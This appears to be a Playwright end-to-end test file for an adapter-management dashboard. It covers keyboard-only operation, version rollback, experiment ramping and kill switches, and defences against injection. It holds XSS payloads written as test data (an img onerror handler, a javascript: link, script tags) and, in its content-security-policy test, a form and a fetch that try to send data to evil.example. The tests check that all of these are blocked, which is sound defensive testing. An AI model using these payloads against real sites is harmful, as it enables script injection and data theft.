/** What an operator does when something is wrong, by keyboard too, and what others may have written meanwhile. */
import type { Page } from 'playwright-core';
import { expect, it } from 'vitest';
import type { NameList } from '../../protocol/admin-api/names.ts';
import type { ExperimentList } from '../../protocol/admin-api/experiments.ts';
import { pickVariant } from '../../worker/experiments/pick-variant.ts';
import { unitOf } from '../../worker/experiments/assign.ts';
import { NAME, useDashboard } from './dashboard-rig.ts';
import { startPageServer } from './page-server.ts';

/** Each runs something when it is taken for a part of the page. */
const IMAGE = '<img src=x onerror="window.ran=true">';
const LINK = ['javascript', 'window.ran=true'].join(':');

const rig = useDashboard();

/** What ran, what was made of it, and links to elsewhere. */
const harm = (page: Page) =>
  page.evaluate(`({
    ran: window.ran ?? false,
    images: document.images.length,
    links: [...document.links].map((link) => link.getAttribute('href')).filter((to) => !to.startsWith('#')),
  })`);
const NONE = { ran: false, images: 0, links: [] };

const focused = (): Promise<string> =>
  rig.page.evaluate<string>(`(() => {
    const { activeElement: one } = document;
    return one.getAttribute('aria-label') ?? one.labels?.[0]?.textContent.trim() ?? one.textContent.trim();
  })()`);

/** Presses Tab until what has this name has the focus. */
async function tabTo(name: string): Promise<void> {
  const passed: string[] = [];
  while (passed.length < 40) {
    await rig.page.keyboard.press('Tab');
    const here = await focused();
    if (here === name) return;
    passed.push(here);
  }
  throw new Error(`Tab never came to "${name}" but to ${passed.join(' | ')}`);
}

it('signs in, promotes and rolls back by keyboard alone', async () => {
  const { page, stack } = rig;
  const { keyboard } = page;
  await page.goto(`${stack.local.url}/dashboard`);
  await page.getByLabel('Admin key').waitFor();
  await tabTo('Admin key');
  await keyboard.type(stack.local.adminKey);
  await keyboard.press('Enter');
  await page.getByRole('heading', { name: 'Overview' }).waitFor();
  await tabTo('Adapters');
  await keyboard.press('Enter');
  const link = page.getByRole('link', { name: 'intent @1' });
  await link.waitFor();
  await tabTo('To the content');
  await keyboard.press('Enter');
  expect(await page.evaluate('document.activeElement.id')).toBe('main');
  await tabTo('intent@1');
  await keyboard.press('Enter');
  await page.getByText('Version 1 is live.').waitFor();
  expect(page.url()).toMatch(/#\/adapters\/support\/intent$/);

  await tabTo('Promote version 2');
  await keyboard.press('Enter');
  await page.getByRole('dialog').waitFor();
  expect(await focused()).toBe('Reason, for the history (optional)');
  // Called off, the focus is where it was.
  await keyboard.press('Escape');
  await page.getByRole('dialog').waitFor({ state: 'detached' });
  expect(await focused()).toBe('Promote version 2');
  await keyboard.press('Enter');
  await page.getByRole('dialog').waitFor();
  await keyboard.type(IMAGE);
  await keyboard.press('Enter');
  await page.getByText('Version 2 is live.').waitFor();
  await page.getByRole('link', { name: 'intent @2' }).waitFor();

  await tabTo('Roll back version 1');
  await keyboard.press('Enter');
  await page.getByRole('heading', { name: `Roll back to ${NAME}@1?` }).waitFor();
  await rig.look('roll-back');
  await tabTo('Roll back');
  await keyboard.press('Enter');
  await page.getByText('Version 1 is live.').waitFor();
  await page.getByRole('link', { name: 'intent @1' }).waitFor();
  await page.getByText('rollback version 1 (before: 2)').waitFor();
  // The reason is text.
  await page.getByText(IMAGE).waitFor();
  expect(await harm(page)).toEqual(NONE);
  await rig.look('history');
});

it('begins an experiment with few, gives it more, kills and revives it', async () => {
  const { page } = rig;
  await rig.goTo('Experiments');
  await page.getByText('There is none yet.').waitFor();
  await page.getByRole('link', { name: 'New experiment' }).click();
  await page.getByLabel('Name that applications call').fill(NAME);
  await page.getByLabel('Control, version').fill('1');
  await page.getByLabel('Treatment, version').fill('2');
  await page.getByLabel('Start with a hundredth').check();
  await page.getByRole('button', { name: 'Create a draft' }).click();
  await page.getByText('draft', { exact: true }).waitFor();
  await rig.look('draft');
  await page.getByRole('button', { name: 'Start' }).click();
  await rig.confirm('Start');
  await page.getByText('1 % of the users are in it, step 1 of 4.').waitFor();

  const more = page.getByRole('button', { name: 'More coverage' });
  await more.click();
  expect(await page.getByLabel('Coverage, percent').inputValue()).toBe('5');
  await rig.look('coverage');
  await rig.confirm('Change coverage');
  await page.getByText('5 % of the users are in it, step 2 of 4.').waitFor();
  await more.click();
  await page.getByLabel('Coverage, percent').fill('100');
  await rig.confirm('Change coverage');
  await page.getByText('100 % of the users are in it, step 4 of 4.').waitFor();
  expect(await more.count()).toBe(0);

  await page.getByRole('button', { name: 'Kill switch' }).click();
  await rig.confirm('Kill switch on');
  await page.getByText('killed', { exact: true }).waitFor();
  await rig.look('killed');
  await page.getByRole('button', { name: 'Kill switch off' }).click();
  await rig.confirm('Kill switch off');
  await page.getByText(/^(running|ramping)$/).waitFor();
});

it('hides the results behind the alarm when variants get other shares than they should, and stops', async () => {
  const { page, stack } = rig;
  const listed = await fetch(`${stack.local.url}/admin/experiments`, {
    headers: { authorization: `Bearer ${stack.local.adminKey}` },
  });
  const { document } = ((await listed.json()) as ExperimentList).experiments[0]!;
  const gets = (key: string) => (user: string) => {
    const unit = unitOf(document.unit, { tenant: 'default', keyId: '', user });
    const given = pickVariant(document, { unit, tenant: 'default', name: NAME, header: () => null });
    return given.kind === 'variant' && given.variant.key === key;
  };
  const users = Array.from({ length: 1_000 }, (_, i) => `user-${i}`);
  const ask = async (user: string): Promise<string | null> => {
    const body = { model: NAME, user, max_tokens: 1, messages: [{ role: 'user', content: 'hi' }] };
    const answer = await rig.post('/v1/chat/completions', body);
    await answer.text();
    return answer.headers.get('x-graft-variant');
  };
  // The names in KV are remembered for a while.
  const control = users.filter(gets('control')).slice(0, 8);
  const treatment = users.filter(gets('treatment')).slice(0, 80);
  await expect.poll(() => ask(treatment[0]!), { interval: 1_000 }).toBe('treatment');
  // One after the other, and in turn: were they all asked at once, those that wait longest would lose a guardrail.
  const inTurn = treatment.flatMap((user, i) => (i % 10 === 0 ? [control[i / 10]!, user] : [user]));
  const got = new Set<string | null>();
  for (const user of inTurn) got.add(await ask(user));
  expect(got).toEqual(new Set(['control', 'treatment']));

  const look = page.getByRole('button', { name: 'Evaluate now' });
  const counted = page.getByText(/\(control 8, treatment 80; p < 0\.0001\)/);
  // What is counted is written after a second, perhaps in parts.
  const looked = async () => {
    await look.click();
    await look.waitFor();
    return counted.isVisible();
  };
  await expect.poll(looked, { interval: 500 }).toBe(true);
  await page.getByRole('alert').getByText('Results are hidden.').waitFor();
  await page.getByText(/^Hold: the variants do not receive the units that their weights call for/).waitFor();
  expect(await page.getByRole('region', { name: /^(Results|Metrics)$/ }).count()).toBe(0);
  expect(await page.getByRole('img').count()).toBe(0);
  await rig.look('alarm');
  await page.getByRole('link', { name: 'All experiments' }).click();
  await page.getByRole('row', { name: /support\/intent .* Hold: the variants/ }).waitFor();
  await rig.look('experiments');

  await page.getByRole('link', { name: NAME }).click();
  await page.getByRole('button', { name: 'Stop' }).click();
  await rig.confirm('Stop it');
  await page.getByText('decided', { exact: true }).waitFor();
  await page.getByText('Stopped without a winner.').waitFor();
  await page.getByRole('link', { name: 'All experiments' }).click();
  await page.getByRole('row', { name: /support\/intent decided .* Stopped without a winner\.$/ }).waitFor();
  await page.getByRole('link', { name: NAME }).click();
  await page.getByRole('button', { name: 'Archive' }).click();
  await rig.confirm('Archive');
  await page.getByText('archived', { exact: true }).waitFor();
  expect(await page.locator('.actions button').count()).toBe(0);
});

it('shows names, errors and answers as the text that they are', async () => {
  const { page, stack } = rig;
  await page.route('**/admin/names*', async (route) => {
    const real = (await (await route.fetch()).json()) as NameList;
    const names = [IMAGE, LINK].map((name) => ({ ...real.names[0]!, name, owner: IMAGE }));
    await route.fulfill({ json: { names, cursor: null } });
  });
  await page.route('**/admin/versions*', (route) =>
    route.fulfill({ status: 400, json: { error: { message: IMAGE, code: IMAGE, param: LINK } } }),
  );
  await rig.goTo('Adapters');
  await page.getByRole('link', { name: LINK }).click();
  await page.getByRole('heading', { name: LINK }).waitFor();
  await page.getByRole('alert').getByText(IMAGE).waitFor();
  expect(await harm(page)).toEqual(NONE);
  // An address that somebody sends is a view of this page, or nothing.
  for (const hash of [`#/adapters/${IMAGE}`, `#/new-experiment/${IMAGE}`, `#${LINK}`, '#//evil.example/']) {
    await page.goto(`${stack.local.url}/dashboard${hash}`);
    await page.getByRole('heading', { level: 1 }).waitFor();
    expect(await harm(page)).toEqual(NONE);
    expect(page.url().startsWith(`${stack.local.url}/dashboard#`)).toBe(true);
  }

  const event = (data: object) => `data: ${JSON.stringify(data)}\n\n`;
  await page.route('**/v1/chat/completions', (route) =>
    route.fulfill({
      headers: { 'content-type': 'text/event-stream', 'x-graft-adapter': IMAGE, 'x-graft-degraded': LINK },
      body:
        event({ choices: [{ delta: { content: `${IMAGE}<script>window.ran=true</script>` } }] }) +
        event({ error: { message: IMAGE, code: 'internal_error' } }),
    }),
  );
  await rig.goTo('Playground');
  await page.getByLabel('API key').fill(stack.local.key);
  await page.getByRole('button', { name: 'Use it' }).click();
  await page.getByLabel('Prompt').fill('hello');
  await page.getByRole('button', { name: 'Ask both' }).click();
  for (const side of [page.getByLabel('Left side'), page.getByLabel('Right side')]) {
    await side.getByText('failed').waitFor();
    expect(await side.locator('.answer').textContent()).toBe(`${IMAGE}<script>window.ran=true</script>`);
    await side.getByRole('alert').getByText(IMAGE).waitFor();
  }
  expect(await harm(page)).toEqual(NONE);
  await rig.look('hostile');
  await page.unrouteAll();
});

it('has given the browser nothing to complain of', () => {
  expect(rig.complaints).toEqual([]);
});

it('is held together by its policy where it were to fail: no inline script, nothing sent elsewhere, no frame', async () => {
  const { url } = rig.stack.local;
  const broken = await rig.openPage();
  await broken.goto(`${url}/dashboard`);
  await broken.getByLabel('Admin key').waitFor();
  const refused: string[] = await broken.evaluate(`new Promise((done) => {
    const refused = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => refused.push(effectiveDirective));
    const script = document.createElement('script');
    script.textContent = 'window.ran = true';
    document.body.append(script);
    document.body.insertAdjacentHTML('beforeend', ${JSON.stringify(IMAGE)});
    document.body.insertAdjacentHTML('beforeend', '<form action="https://evil.example/"><input name="key"></form>');
    document.forms[document.forms.length - 1].submit();
    fetch('https://evil.example/?key=' + sessionStorage.length).catch(() => setTimeout(() => done(refused), 200));
  })`);
  expect(new Set(refused)).toEqual(
    new Set(['script-src-elem', 'script-src-attr', 'form-action', 'connect-src']),
  );
  expect(await broken.evaluate('window.ran')).toBeUndefined();

  const frame = `<iframe src="${url}/dashboard"></iframe>`;
  const evil = await startPageServer(new Map([['/', { type: 'text/html', body: frame }]]), 'frame-src *');
  const failed = broken.waitForEvent('requestfailed');
  await broken.goto(evil.url);
  expect((await failed).failure()?.errorText).toBe('net::ERR_BLOCKED_BY_RESPONSE');
  await evil.stop();
  await broken.close();
});
